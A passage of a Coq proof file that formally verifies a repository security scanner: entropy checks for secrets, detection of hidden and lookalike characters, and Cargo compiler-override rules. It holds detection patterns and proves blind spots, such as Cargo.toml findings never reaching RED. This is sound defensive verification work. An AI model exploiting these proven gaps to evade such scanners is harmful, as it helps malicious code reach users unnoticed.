  intros content path. unfold Entropy.scanForHighEntropyDefault, Entropy.scanForHighEntropy.
  split.
  - intro Hlen. apply Nat.ltb_lt in Hlen. rewrite Hlen.
    destruct (Entropy.classifyEntropy (Entropy.calculateEntropy content));
      eexists; (split; [reflexivity | simpl; lia]).
  - intro Hlen.
    assert (Hlt : (length content <? 100) = true) by (apply Nat.ltb_lt; lia).
    rewrite Hlt.
    assert (Hlow : (Entropy.calculateEntropy content < Entropy.WARNING)%R).
    { destruct content as [|c content'].
      - unfold Entropy.calculateEntropy, Entropy.WARNING. simpl. lra.
      - eapply Rle_lt_trans; [apply EntropyBound.calculateEntropy_le; discriminate|].
        eapply Rle_lt_trans; [|exact EntropyBound.log2_45].
        apply EntropyBound.log2_le_mono.
        + apply lt_0_INR. simpl. lia.
        + replace 45%R with (INR 45) by (rewrite INR_IZR_INZ; reflexivity).
          apply le_INR. exact Hlen. }
    unfold Entropy.classifyEntropy.
    assert (Hcw : (Entropy.WARNING < Entropy.CRITICAL)%R)
      by (unfold Entropy.WARNING, Entropy.CRITICAL; lra).
    destruct (Rge_dec _ Entropy.CRITICAL) as [H | _]; [exfalso; lra|].
    destruct (Rge_dec _ Entropy.WARNING) as [H | _]; [exfalso; lra|].
    destruct (Rge_dec _ Entropy.NORMAL); reflexivity.
Qed.

Lemma short_text_entropy_findings_witness :
  Entropy.scanForHighEntropyDefault (lit "name: CI") workflowPath = Some [].
Proof.
  apply (proj2 (short_text_entropy_findings (lit "name: CI") workflowPath)).
  simpl. lia.
Defined.

(** ** Regular expressions, and what the entropy loop reports *)

Module RegexFacts.
Import Regex.

Lemma star_iter : forall ic a P k,
  matchesUnits ic a P ->
  forall n s prev,
    length s < n ->
    (fix iter (n : nat) (prev : option N) (s : jsstring) {struct n} : option jsstring :=
       match n with
       | O => k prev s
       | S n' =>
           match matchAt ic a prev s
                   (fun p' s' => if length s' <? length s then iter n' p' s' else None) with
           | Some res => Some res
           | None => k prev s
           end
       end) n prev s
    = starRun P k prev s.
Proof.
  intros ic a P k Ha. induction n as [|n IH]; intros s prev Hn; [lia|].
  rewrite Ha. destruct s as [|x s']; [reflexivity|].
  cbn [starRun]. destruct (P x); [|reflexivity].
  assert (Hlt : (length s' <? length (x :: s')) = true) by (apply Nat.ltb_lt; simpl; lia).
  rewrite Hlt. rewrite IH by (simpl in Hn; lia). reflexivity.
Qed.

Lemma matchAt_Star : forall ic a P,
  matchesUnits ic a P ->
  forall k prev s, matchAt ic (Star a) prev s k = starRun P k prev s.
Proof.
  intros ic a P Ha k prev s.
  exact (star_iter ic a P k Ha (S (length s)) s prev (Nat.lt_succ_diag_r _)).
Qed.

Lemma Class_units : forall ic neg rs,
  matchesUnits ic (Class neg rs) (fun x => xorb neg (inRanges x rs)).
Proof. intros ic neg rs prev s k. reflexivity. Qed.

Lemma Chr_units : forall ic c, matchesUnits ic (Chr c) (unitMatches ic c).
Proof. intros ic c prev s k. reflexivity. Qed.

Lemma starRun_ext : forall P k1 k2,
  (forall p s, k1 p s = k2 p s) ->
  forall s prev, starRun P k1 prev s = starRun P k2 prev s.
Proof.
  intros P k1 k2 H. induction s as [|x s IH]; intro prev; cbn [starRun]; [apply H|].
  rewrite IH, H. reflexivity.
Qed.

(** A run that must reach the end of the input. *)
Lemma starRun_to_end : forall P k,
  (forall p, k p [] = Some []) ->
  (forall p x s, k p (x :: s) = None) ->
  forall s prev, starRun P k prev s = if forallb P s then Some [] else None.
Proof.
  intros P k Hnil Hcons. induction s as [|x s IH]; intro prev; cbn [starRun forallb].
  - apply Hnil.
  - destruct (P x); cbn [andb]; [|apply Hcons].
    rewrite IH. destruct (forallb P s); [reflexivity | apply Hcons].
Qed.

(** A run over units that all satisfy [P] succeeds if what follows accepts
    the end of the input. *)
Lemma starRun_all : forall P k,
  (forall p, k p [] <> None) ->
  forall s prev, forallb P s = true -> starRun P k prev s <> None.
Proof.
  intros P k Hnil. induction s as [|x s IH]; intros prev Hall; cbn [starRun].
  - apply Hnil.
  - cbn [forallb] in Hall. apply andb_true_iff in Hall. destruct Hall as [Hx Hs].
    rewrite Hx. specialize (IH (Some x) Hs).
    destruct (starRun P k (Some x) s); [discriminate | contradiction].
Qed.

(** A pattern that starts with [^] matches at the start only. *)
Lemma search_Bol_later : forall ic r c s, search ic (Seq Bol r) (Some c) s = None.
Proof.
  intros ic r c s. revert c. induction s as [|x s IH]; intro c.
  - reflexivity.
  - cbn [search execAt matchAt]. rewrite IH. reflexivity.
Qed.

Lemma test_Bol : forall ic r s,
  test ic (Seq Bol r) s = match execAt ic (Seq Bol r) None s with
                          | Some _ => true
                          | None => false
                          end.
Proof.
  intros ic r s. unfold test. destruct s as [|x s]; cbn [search].
  - destruct (execAt ic (Seq Bol r) None []); reflexivity.
  - destruct (execAt ic (Seq Bol r) None (x :: s)); [reflexivity|].
    rewrite search_Bol_later. reflexivity.
Qed.

(** [/^[...]+$/] accepts the non-empty texts made of units of the class. *)
Lemma test_anchored_class : forall rs s,
  test false (Seqs [Bol; Plus (Class false rs); Eol]) s
  = negb (length s =? 0) && forallb (fun x => inRanges x rs) s.
Proof.
  intros rs s. change (Seqs [Bol; Plus (Class false rs); Eol])
    with (Seq Bol (Seq (Plus (Class false rs)) (Seq Eol Empty))).
  rewrite test_Bol. destruct s as [|x s]; [reflexivity|].
  change (execAt false (Seq Bol (Seq (Plus (Class false rs)) (Seq Eol Empty))) None (x :: s))
    with (if inRanges x rs
          then matchAt false (Star (Class false rs)) (Some x) s
                 (fun p' s' => matchAt false (Seq Eol Empty) p' s' (fun _ rest => Some rest))
          else None).
  cbn [length Nat.eqb negb andb forallb].
  destruct (inRanges x rs); [|reflexivity]. cbn [andb].
  rewrite (matchAt_Star false _ _ (Class_units false false rs)).
  rewrite (starRun_to_end _ _ (fun p => eq_refl) (fun p y t => eq_refl)).
  cbn [xorb]. destruct (forallb _ s); reflexivity.
Qed.

Lemma search_exec : forall ic r s prev n rest,
  search ic r prev s = Some (n, rest) ->
  exists pre s',
    s = pre ++ s' /\ length pre = n
    /\ execAt ic r (match rev pre with c :: _ => Some c | [] => prev end) s' = Some rest.
Proof.
  intros ic r. induction s as [|x s IH]; intros prev n rest H; cbn [search] in H.
  - destruct (execAt ic r prev []) as [res|] eqn:E; [|discriminate].
    inversion H; subst. exists [], []. repeat split. exact E.
  - destruct (execAt ic r prev (x :: s)) as [res|] eqn:E.
    + inversion H; subst. exists [], (x :: s). repeat split. exact E.
    + destruct (search ic r (Some x) s) as [[m rest']|] eqn:Es; [|discriminate].
      inversion H; subst. destruct (IH (Some x) m rest Es) as [pre [s' [Hs [Hl He]]]].
      exists (x :: pre), s'. split; [rewrite Hs; reflexivity|]. split; [simpl; lia|].
      cbn [rev]. destruct (rev pre) as [|c t] eqn:Er; [exact He | exact He].
Qed.

End RegexFacts.
Import RegexFacts.

(** A text that [isLikelyHex] accepts is accepted by [isLikelyBase64] too, so
    in the loop of [scanForHighEntropy] a window of high entropy is always
    reported: the test that spares hexadecimal data is reached only by
    windows that are not base64 and hence not hexadecimal. *)
Theorem hex_text_is_likely_base64 : forall data,
  Entropy.isLikelyHex data = true -> Entropy.isLikelyBase64 data = true.
Proof.
  intros data H. unfold Entropy.isLikelyHex in H. unfold Entropy.isLikelyBase64.
  set (cleaned := Regex.removeSpaces data) in *.
  apply andb_true_iff in H. destruct H as [H Hhex].
  apply andb_true_iff in H. destruct H as [Hlen Heven].
  apply Nat.leb_le in Hlen. apply Nat.eqb_eq in Heven.
  unfold Entropy.hexPattern in Hhex. rewrite test_anchored_class in Hhex.
  apply andb_true_iff in Hhex. destruct Hhex as [_ Hall].
  assert (Hshort : (length cleaned <? 20) = false) by (apply Nat.ltb_ge; lia).
  rewrite Hshort.
  assert (Hb64 : Regex.test false Entropy.base64Pattern cleaned = true).
  { unfold Entropy.base64Pattern.
    change (Regex.Seqs [Regex.Bol;
                        Regex.Plus (Regex.Class false [(65, 90); (97, 122); (48, 57);
                                                       (43, 43); (47, 47)]%N);
                        Regex.Star (Regex.Chr 61); Regex.Eol])
      with (Regex.Seq Regex.Bol
              (Regex.Seq (Regex.Plus (Regex.Class false [(65, 90); (97, 122); (48, 57);
                                                         (43, 43); (47, 47)]%N))
                 (Regex.Seq (Regex.Star (Regex.Chr 61)) (Regex.Seq Regex.Eol Regex.Empty)))).
    rewrite test_Bol.
    assert (Hsub : forall x, Regex.inRanges x [(65, 70); (97, 102); (48, 57)]%N = true ->
                             Regex.inRanges x [(65, 90); (97, 122); (48, 57);
                                               (43, 43); (47, 47)]%N = true).
    { intros x Hx. unfold Regex.inRanges in *. cbn [existsb fst snd] in *.
      repeat rewrite orb_true_iff in Hx. repeat rewrite andb_true_iff in Hx.
      repeat rewrite N.leb_le in Hx.
      repeat rewrite orb_true_iff. repeat rewrite andb_true_iff.
      repeat rewrite N.leb_le. lia. }
    destruct cleaned as [|x rest]; [simpl in Hlen; lia|].
    cbn [forallb] in Hall. apply andb_true_iff in Hall. destruct Hall as [Hx Hrest].
    match goal with
    | |- context [Regex.execAt false ?r None (x :: rest)] =>
        change (Regex.execAt false r None (x :: rest))
          with (if Regex.inRanges x [(65, 90); (97, 122); (48, 57); (43, 43); (47, 47)]%N
                then Regex.matchAt false
                       (Regex.Star (Regex.Class false [(65, 90); (97, 122); (48, 57);
                                                       (43, 43); (47, 47)]%N))
                       (Some x) rest
                       (fun p' s' =>
                          Regex.matchAt false
                            (Regex.Seq (Regex.Star (Regex.Chr 61))
                                       (Regex.Seq Regex.Eol Regex.Empty))
                            p' s' (fun _ rest0 => Some rest0))
                else None)
    end.
    rewrite (Hsub x Hx).
    rewrite (matchAt_Star false _ _ (Class_units false false _)).
    assert (Hne : starRun
                    (fun x0 => xorb false (Regex.inRanges x0 [(65, 90); (97, 122); (48, 57);
                                                              (43, 43); (47, 47)]%N))
                    (fun p' s' =>
                       Regex.matchAt false
                         (Regex.Seq (Regex.Star (Regex.Chr 61)) (Regex.Seq Regex.Eol Regex.Empty))
                         p' s' (fun _ rest0 => Some rest0))
                    (Some x) rest <> None).
    { apply starRun_all.
      - intro p. discriminate.
      - apply forallb_forall. intros y Hy. rewrite forallb_forall in Hrest.
        cbn [xorb]. apply Hsub. apply Hrest. exact Hy. }
    destruct (starRun _ _ (Some x) rest); [reflexivity | contradiction]. }
  rewrite Hb64. cbn [negb].
  apply orb_true_iff. right. apply Nat.leb_le.
  pose proof (Nat.div_mod_eq (length cleaned) 4) as H4.
  pose proof (Nat.div_mod_eq (length cleaned) 2) as H2.
  pose proof (Nat.mod_upper_bound (length cleaned) 4).
  destruct (Nat.eq_dec (length cleaned mod 4) 3) as [E3 | E3]; [|lia].
  exfalso. rewrite Heven, E3 in *. lia.
Qed.

Lemma hex_text_is_likely_base64_witness :
  Entropy.isLikelyBase64 (lit "0123456789abcdef0123456789abcdef") = true.
Proof. apply hex_text_is_likely_base64. reflexivity. Defined.

(** ** Hidden characters and lookalikes *)

Module HomoglyphFacts.
Import Homoglyph.

Lemma charAt_nth : forall content i c,
  nth_error content i = Some c -> charAt content i = [c].
Proof. intros content i c H. unfold charAt. rewrite H. reflexivity. Qed.

Lemma flat_map_nil : forall (A B : Type) (f : A -> list B) l,
  (forall x, In x l -> f x = []) -> flat_map f l = [].
Proof.
  intros A B f. induction l as [|x l IH]; intro H; [reflexivity|].
  simpl. rewrite (H x (or_introl eq_refl)). apply IH. intros y Hy. apply H. right. exact Hy.
Qed.

Lemma flat_map_if_length : forall (A B : Type) (b : A -> bool) (g : A -> B) l,
  length (flat_map (fun e => if b e then [g e] else []) l) = length (filter b l).
Proof.
  intros A B b g. induction l as [|x l IH]; [reflexivity|].
  simpl. destruct (b x); simpl; rewrite IH; reflexivity.
Qed.

(** Counting over the indices of a text is counting over its units. *)
Lemma indices_length : forall (B : Type) (F : nat -> list B) (P : N -> bool) rest a,
  (forall j c, nth_error rest j = Some c ->
               length (F (a + j)) = if P c then 1 else 0) ->
  length (flat_map F (seq a (length rest))) = length (filter P rest).
Proof.
  intros B F P. induction rest as [|c rest IH]; intros a H; [reflexivity|].
  cbn [length seq flat_map filter]. rewrite length_app.
  rewrite (IH (S a)).
  - pose proof (H 0 c eq_refl) as H0. rewrite Nat.add_0_r in H0. rewrite H0.
    destruct (P c); reflexivity.
  - intros j d Hj. replace (S a + j) with (a + S j) by lia. apply H. exact Hj.
Qed.

Lemma ascii_units : forall c, N.leb c 127 = true -> In c (map N.of_nat (seq 0 128)).
Proof.
  intros c H. apply N.leb_le in H. apply in_map_iff. exists (N.to_nat c).
  split; [apply N2Nat.id|]. apply in_seq. lia.
Qed.

(** Among the ASCII units only the digit zero is listed as a lookalike. *)
Lemma ascii_lookalikes : forall c,
  N.leb c 127 = true ->
  length (filter (fun entry => arrayIncludes (snd entry) [c]) HOMOGLYPHS)
  = if N.eqb c 48 then 1 else 0.
Proof.
  intros c H.
  assert (Hall : forallb (fun c =>
                   Nat.eqb (length (filter (fun entry => arrayIncludes (snd entry) [c])
                                           HOMOGLYPHS))
                           (if N.eqb c 48 then 1 else 0))
                 (map N.of_nat (seq 0 128)) = true) by (vm_compute; reflexivity).
  rewrite forallb_forall in Hall. apply Nat.eqb_eq. apply Hall. apply ascii_units. exact H.
Qed.

Lemma ascii_not_hidden : forall c chars,
  N.leb c 127 = true ->
  forallb (fun ch => match ch with [u] => negb (N.leb u 127) | _ => false end) chars = true ->
  arrayIncludes chars [c] = false.
Proof.
  intros c chars Hc Hhigh. apply arrayIncludes_not_In. intro Hin.
  rewrite forallb_forall in Hhigh. specialize (Hhigh [c] Hin). simpl in Hhigh.
  rewrite Hc in Hhigh. discriminate.
Qed.

Lemma detectInvisibleCharacters_ascii : forall content,
  forallb (fun c => N.leb c 127) content = true ->
  detectInvisibleCharacters content = [].
Proof.
  intros content Hascii. unfold detectInvisibleCharacters.
  apply flat_map_nil. intros i Hi. apply in_seq in Hi.
  destruct (nth_error content i) as [c|] eqn:E.
  - rewrite (charAt_nth _ _ _ E).
    assert (Hc : N.leb c 127 = true).
    { rewrite forallb_forall in Hascii. apply Hascii. eapply nth_error_In. exact E. }
    rewrite (ascii_not_hidden c INVISIBLE_CHARS Hc eq_refl).
    rewrite (ascii_not_hidden c BIDI_CHARS Hc eq_refl). reflexivity.
  - apply nth_error_None in E. lia.
Qed.

Lemma detectHomoglyphs_ascii : forall content,
  forallb (fun c => N.leb c 127) content = true ->
  length (detectHomoglyphs content) = count_occ N.eq_dec content 48%N.
Proof.
  intros content Hascii. unfold detectHomoglyphs.
  rewrite (indices_length _ _ (fun c => N.eqb c 48) content 0).
  - clear Hascii. induction content as [|c content IH]; [reflexivity|].
    cbn [filter count_occ]. destruct (N.eqb_spec c 48) as [Heq | Hne].
    + destruct (N.eq_dec c 48); [|contradiction]. simpl. rewrite IH. reflexivity.
    + destruct (N.eq_dec c 48); [contradiction|]. exact IH.
  - intros j c Hj. cbn [Nat.add]. rewrite (charAt_nth _ _ _ Hj).
    rewrite flat_map_if_length. apply ascii_lookalikes.
    rewrite forallb_forall in Hascii. apply Hascii. eapply nth_error_In. exact Hj.
Qed.

Lemma hasMixedScripts_ascii : forall content,
  forallb (fun c => N.leb c 127) content = true -> hasMixedScripts content = false.
Proof.
  intros content Hascii. unfold hasMixedScripts.
  assert (Hno : forall lo hi, (127 < lo)%N ->
            existsb (fun c => N.leb lo c && N.leb c hi) content = false).
  { intros lo hi Hlo. destruct (existsb _ content) eqn:E; [|reflexivity].
    apply existsb_exists in E. destruct E as [c [Hin Hc]].
    rewrite forallb_forall in Hascii. specialize (Hascii c Hin).
    apply andb_true_iff in Hc. destruct Hc as [Hc _].
    apply N.leb_le in Hc, Hascii. lia. }
  rewrite (Hno 1024 1279)%N, (Hno 880 1023)%N by lia.
  destruct (existsb _ content); reflexivity.
Qed.

Lemma needsHomoglyphScan_false_ascii : forall content,
  needsHomoglyphScan content = false ->
  forallb (fun c => N.leb c 127) content = true.
Proof.
  intros content H. unfold needsHomoglyphScan in H.
  apply orb_false_iff in H. destruct H as [H _].
  apply orb_false_iff in H. destruct H as [H _]. unfold hasNonAscii in H.
  apply forallb_forall. intros c Hc.
  destruct (N.leb c 127) eqn:E; [reflexivity|]. exfalso.
  assert (Ht : existsb (fun c => negb (N.leb c 127)) content = true).
  { apply existsb_exists. exists c. split; [exact Hc | rewrite E; reflexivity]. }
  congruence.
Qed.

Lemma In_includes_unit : forall s u, In u s -> includes s [u] = true.
Proof.
  induction s as [|x s IH]; intros u H; [destruct H|].
  simpl. destruct H as [H | H].
  - subst. rewrite N.eqb_refl. destruct s; reflexivity.
  - rewrite (IH u H). apply orb_true_r.
Qed.

(** A hidden character of the text is reported with its position. *)
Lemma detectInvisibleCharacters_finds : forall content i u,
  nth_error content i = Some u ->
  (In [u] INVISIBLE_CHARS ->
   exists r, In r (detectInvisibleCharacters content)
             /\ type r = zero_width /\ position r = i)
  /\ (In [u] BIDI_CHARS ->
      exists r, In r (detectInvisibleCharacters content)
                /\ type r = bidi /\ position r = i).
Proof.
  intros content i u Hi.
  assert (Hseq : In i (seq 0 (length content))).
  { apply in_seq. split; [lia|]. simpl. apply nth_error_Some. congruence. }
  unfold detectInvisibleCharacters.
  split; intro Hu; apply arrayIncludes_In in Hu; eexists; split.
  - apply in_flat_map. exists i. split; [exact Hseq|].
    rewrite (charAt_nth _ _ _ Hi), Hu. apply in_or_app. left. left. reflexivity.
  - split; reflexivity.
  - apply in_flat_map. exists i. split; [exact Hseq|].
    rewrite (charAt_nth _ _ _ Hi), Hu. apply in_or_app. right. left. reflexivity.
  - split; reflexivity.
Qed.

Lemma filter_nonempty : forall (A : Type) (p : A -> bool) l x,
  In x l -> p x = true -> (0 <? length (filter p l)) = true.
Proof.
  intros A p l x Hin Hp. apply Nat.ltb_lt.
  assert (H : In x (filter p l)) by (apply filter_In; split; assumption).
  destruct (filter p l); [destruct H | simpl; lia].
Qed.

End HomoglyphFacts.
Import HomoglyphFacts.

(** What the gate leaves out: when [needsHomoglyphScan] says no, the scan
    would have reported nothing, unless the text holds the digit zero: then
    it would have reported one YELLOW finding that counts the zeros. *)
Theorem gate_skips_only_zero_digits : forall content path,
  Homoglyph.needsHomoglyphScan content = false ->
  (~ In 48%N content -> Homoglyph.scanForHomoglyphs content path = [])
  /\ (In 48%N content ->
      exists f, Homoglyph.scanForHomoglyphs content path = [f]
                /\ isPotentialHomoglyphFinding path (count_occ N.eq_dec content 48%N) f).
Proof.
  intros content path Hgate.
  pose proof (needsHomoglyphScan_false_ascii content Hgate) as Hascii.
  pose proof (detectHomoglyphs_ascii content Hascii) as Hlen.
  unfold Homoglyph.scanForHomoglyphs.
  rewrite (detectInvisibleCharacters_ascii content Hascii).
  rewrite (hasMixedScripts_ascii content Hascii).
  cbn [length]. change (0 <? 0) with false. cbv iota. cbn [app].
  rewrite Hlen. split.
  - intro Hno. apply (count_occ_not_In N.eq_dec) in Hno. rewrite Hno. reflexivity.
  - intro Hin. apply (count_occ_In N.eq_dec) in Hin.
    assert (Hpos : (0 <? count_occ N.eq_dec content 48%N) = true) by (apply Nat.ltb_lt; lia).
    rewrite Hpos. eexists. split; [reflexivity|].
    repeat split.
Qed.

Lemma gate_skips_only_zero_digits_witness :
  exists f, Homoglyph.scanForHomoglyphs versionText somePath = [f]
            /\ isPotentialHomoglyphFinding somePath (count_occ N.eq_dec versionText 48%N) f.
Proof.
  apply (gate_skips_only_zero_digits versionText somePath); [reflexivity|].
  vm_compute. do 3 right. left. reflexivity.
Defined.

(** A zero-width or bidirectional-override character anywhere in the text
    opens the gate, and the scan reports it as RED. *)
Theorem hidden_character_is_reported : forall content path u,
  In u content ->
  In [u] Homoglyph.INVISIBLE_CHARS \/ In [u] Homoglyph.BIDI_CHARS ->
  Homoglyph.needsHomoglyphScan content = true
  /\ exists f, In f (Homoglyph.scanForHomoglyphs content path)
               /\ riskLevel f = RED /\ category f = HOMOGLYPH /\ filePath f = path.
Proof.
  intros content path u Hin Hu. split.
  - unfold Homoglyph.needsHomoglyphScan. apply orb_true_iff.
    destruct Hu as [Hu | Hu].
    + left. apply orb_true_iff. right. apply existsb_exists. exists [u].
      split; [exact Hu | apply In_includes_unit; exact Hin].
    + right. apply existsb_exists. exists [u].
      split; [exact Hu | apply In_includes_unit; exact Hin].
  - apply In_nth_error in Hin. destruct Hin as [i Hi].
    destruct (detectInvisibleCharacters_finds content i u Hi) as [Hz Hb].
    unfold Homoglyph.scanForHomoglyphs.
    set (hidden := Homoglyph.detectInvisibleCharacters content) in *.
    destruct Hu as [Hu | Hu].
    + destruct (Hz Hu) as [r [Hr [Ht _]]].
      assert (Hany : (0 <? length hidden) = true).
      { apply Nat.ltb_lt. destruct hidden; [destruct Hr | simpl; lia]. }
      assert (Hzw : (0 <? length (filter (fun c => Homoglyph.HiddenType_eqb
                                                     (Homoglyph.type c) Homoglyph.zero_width)
                                         hidden)) = true).
      { apply (filter_nonempty _ _ _ r Hr). rewrite Ht. reflexivity. }
      rewrite Hany, Hzw. eexists. split; [apply in_or_app; left; left; reflexivity|].
      repeat split.
    + destruct (Hb Hu) as [r [Hr [Ht _]]].
      assert (Hany : (0 <? length hidden) = true).
      { apply Nat.ltb_lt. destruct hidden; [destruct Hr | simpl; lia]. }
      assert (Hbd : (0 <? length (filter (fun c => Homoglyph.HiddenType_eqb
                                                     (Homoglyph.type c) Homoglyph.bidi)
                                         hidden)) = true).
      { apply (filter_nonempty _ _ _ r Hr). rewrite Ht. reflexivity. }
      rewrite Hany, Hbd. eexists.
      split; [apply in_or_app; left; apply in_or_app; right; left; reflexivity|].
      repeat split.
Qed.

Lemma hidden_character_is_reported_witness :
  Homoglyph.needsHomoglyphScan (lit "hello" ++ [8203%N] ++ lit "world") = true.
Proof.
  apply (hidden_character_is_reported (lit "hello" ++ [8203%N] ++ lit "world") somePath 8203%N).
  - vm_compute. do 5 right. left. reflexivity.
  - left. left. reflexivity.
Defined.

(** ** The Cargo scanner, and the dispatch of files to scanners *)

Module RustFacts.
Import Rust.

Lemma push_toml : forall path st f,
  Forall (tomlFinding path) (findings st) -> tomlFinding path f ->
  Forall (tomlFinding path) (findings (push st f)).
Proof.
  intros path st f Hst Hf. unfold push. cbn [findings].
  apply Forall_app. split; [exact Hst | constructor; [exact Hf | constructor]].
Qed.

Lemma cargoTomlLine_toml : forall lines path st index line,
  Forall (tomlFinding path) (findings st) ->
  Forall (tomlFinding path) (findings (cargoTomlLine lines path st index line)).
Proof.
  intros lines path st index line H.
  unfold cargoTomlLine, checkGitDependency, checkSuspiciousDependency, checkBuildScript,
    checkBuildDependencies, trackSection.
  repeat match goal with
         | |- context [if ?c then _ else _] => destruct c
         | |- context [match ?c with Some _ => _ | None => _ end] => destruct c
         end;
    cbn [findings];
    repeat (apply push_toml; [|repeat split]); cbn [findings]; exact H.
Qed.

Lemma scanCargoToml_toml : forall content path,
  Forall (tomlFinding path) (scanCargoToml content path).
Proof.
  intros content path. unfold scanCargoToml.
  assert (H : forall ils st,
            Forall (tomlFinding path) (findings st) ->
            Forall (tomlFinding path)
              (findings (fold_left (fun st il => cargoTomlLine (splitLines content) path st
                                                   (fst il) (snd il)) ils st))).
  { induction ils as [|il ils IH]; intros st Hst; [exact Hst|].
    cbn [fold_left]. apply IH. apply cargoTomlLine_toml. exact Hst. }
  destruct (includes content (lit "proc-macro = true")).
  - apply Forall_app. split; [apply H; constructor|].
    constructor; [repeat split | constructor].
  - apply H. constructor.
Qed.

Lemma indexed_In : forall (lines : list jsstring) i line,
  nth_error lines i = Some line -> In (i, line) (indexed lines).
Proof.
  intros lines i line H. unfold indexed.
  assert (G : forall (l : list jsstring) a j x,
            nth_error l j = Some x -> In (a + j, x) (combine (seq a (length l)) l)).
  { induction l as [|y l IH]; intros a j x Hj; [destruct j; discriminate|].
    destruct j as [|j]; simpl in Hj.
    - inversion Hj; subst. left. rewrite Nat.add_0_r. reflexivity.
    - right. replace (a + S j) with (S a + j) by lia. apply IH. exact Hj. }
  apply (G lines 0 i line H).
Qed.

Lemma In_indexed : forall (lines : list jsstring) i line,
  In (i, line) (indexed lines) -> nth_error lines i = Some line.
Proof.
  intros lines i line. unfold indexed.
  assert (G : forall (l : list jsstring) a j x,
            In (j, x) (combine (seq a (length l)) l) ->
            a <= j /\ nth_error l (j - a) = Some x).
  { induction l as [|y l IH]; intros a j x Hj; [destruct Hj|].
    simpl in Hj. destruct Hj as [Hj | Hj].
    - inversion Hj; subst. split; [lia|]. rewrite Nat.sub_diag. reflexivity.
    - apply IH in Hj. destruct Hj as [Hle Hn]. split; [lia|].
      replace (j - a) with (S (j - S a)) by lia. exact Hn. }
  intro H. apply G in H. destruct H as [_ H]. rewrite Nat.sub_0_r in H. exact H.
Qed.

(** The RED findings of a line of [.cargo/config]. *)
Lemma cargoConfigLine_RED : forall path index line f,
  In f (cargoConfigLine path index line) ->
  riskLevel f = RED ->
  overridesCompiler line = true /\ lineNumber f = Some (index + 1).
Proof.
  intros path index line f Hin Hred. unfold cargoConfigLine in Hin.
  fold (overridesCompiler line) in Hin.
  repeat (apply in_app_or in Hin; destruct Hin as [Hin | Hin]);
    repeat match type of Hin with
           | In _ (if ?c then _ else _) => destruct c eqn:?
           end;
    try (destruct Hin as [Hin | []]; subst f; try discriminate Hred);
    try destruct Hin.
  split; reflexivity.
Qed.

Lemma cargoConfigLine_override : forall path index line,
  overridesCompiler line = true ->
  In (lineFinding RED path (index + 1)
        (lit "Rust compiler override detected - can execute arbitrary code") (trim line))
     (cargoConfigLine path index line).
Proof.
  intros path index line H. unfold cargoConfigLine. fold (overridesCompiler line).
  rewrite H. left. reflexivity.
Qed.

End RustFacts.
Import RustFacts.

(** The scan of a [Cargo.toml] warns and never alarms: each of its findings
    is YELLOW, of category [rust], and names the file. *)
Theorem cargo_toml_is_never_red : forall content path,
  endsWith path (lit "Cargo.toml") = true ->
  (forall f, In f (Rust.scanRust content path) ->
             riskLevel f = YELLOW /\ category f = RUST /\ filePath f = path)
  /\ determineOverallRisk (Rust.scanRust content path) <> RED.
Proof.
  intros content path Hpath. unfold Rust.scanRust, Rust.scan. rewrite Hpath.
  pose proof (scanCargoToml_toml content path) as Hall. rewrite Forall_forall in Hall.
  split; [exact Hall|]. intro Hred.
  destruct (RiskClassifierFacts.determineOverallRisk_cases (Rust.scanCargoToml content path))
    as [[_ [f [Hin Hf]]] | [[Hy _] | [Hg _]]]; try congruence.
  destruct (Hall f Hin) as [Hyellow _]. congruence.
Qed.

Lemma cargo_toml_is_never_red_witness :
  determineOverallRisk (Rust.scanRust evilGitToml (lit "Cargo.toml")) <> RED.
Proof. apply (cargo_toml_is_never_red evilGitToml (lit "Cargo.toml")). reflexivity. Defined.

(** In a [.cargo/config] file the scan alarms exactly for the lines that
    replace the compiler: each such line gets a RED finding with its line
    number, and the findings are RED overall if and only if there is such a
    line. *)
Theorem compiler_override_is_red : forall content path,
  isCargoConfigPath path = true ->
  (forall i line,
     nth_error (splitLines content) i = Some line ->
     overridesCompiler line = true ->
     In (Rust.lineFinding RED path (i + 1)
           (lit "Rust compiler override detected - can execute arbitrary code") (trim line))
        (Rust.scanRust content path))
  /\ (determineOverallRisk (Rust.scanRust content path) = RED
      <-> exists line, In line (splitLines content) /\ overridesCompiler line = true).
Proof.
  intros content path Hpath. unfold isCargoConfigPath in Hpath.
  apply andb_true_iff in Hpath. destruct Hpath as [Hno Hcfg].
  apply negb_true_iff in Hno.
  unfold Rust.scanRust, Rust.scan. rewrite Hno, Hcfg. unfold Rust.scanCargoConfig.
  set (perLine := flat_map (fun il => Rust.cargoConfigLine path (fst il) (snd il))
                           (Rust.indexed (splitLines content))).
  set (result := if includes content (lit "[target.")
                    && (includes content (lit "rustc-wrapper")
                        || includes content (lit "linker"))
                 then perLine ++ [Rust.targetFinding path] else perLine).
  assert (Hsub : forall f, In f perLine -> In f result).
  { intros f Hf. unfold result. destruct (_ && _); [apply in_or_app; left|]; exact Hf. }
  assert (Hred : forall f, In f result -> riskLevel f = RED -> In f perLine).
  { intros f Hf Hr. unfold result in Hf. destruct (_ && _); [|exact Hf].
    apply in_app_or in Hf. destruct Hf as [Hf | [Hf | []]]; [exact Hf|].
    subst f. discriminate Hr. }
  assert (Hfound : forall i line,
            nth_error (splitLines content) i = Some line ->
            overridesCompiler line = true ->
            In (Rust.lineFinding RED path (i + 1)
                  (lit "Rust compiler override detected - can execute arbitrary code")
                  (trim line)) result).
  { intros i line Hi Ho. apply Hsub. unfold perLine. apply in_flat_map.
    exists (i, line). split; [apply indexed_In; exact Hi|].
    apply cargoConfigLine_override. exact Ho. }
  split; [exact Hfound|]. split.
  - intro Hr.
    destruct (RiskClassifierFacts.determineOverallRisk_cases result)
      as [[_ [f [Hin Hf]]] | [[Hy _] | [Hg _]]]; try congruence.
    apply Hred in Hin; [|exact Hf]. unfold perLine in Hin. apply in_flat_map in Hin.
    destruct Hin as [[i line] [Hil Hin]]. cbn [fst snd] in Hin.
    destruct (cargoConfigLine_RED path i line f Hin Hf) as [Ho _].
    exists line. split; [|exact Ho].
    apply In_indexed in Hil. eapply nth_error_In. exact Hil.
  - intros [line [Hin Ho]]. apply In_nth_error in Hin. destruct Hin as [i Hi].
    pose proof (Hfound i line Hi Ho) as Hf.
    destruct (RiskClassifierFacts.determineOverallRisk_cases result)
      as [[Hr _] | [[_ [Hno' _]] | [_ Hg]]]; [exact Hr | |].
    + exfalso. exact (Hno' _ Hf eq_refl).
    + specialize (Hg _ Hf). discriminate Hg.
Qed.

Lemma compiler_override_is_red_witness :
  determineOverallRisk (Rust.scanRust wrapperConfig (lit ".cargo/config.toml")) = RED.
Proof.
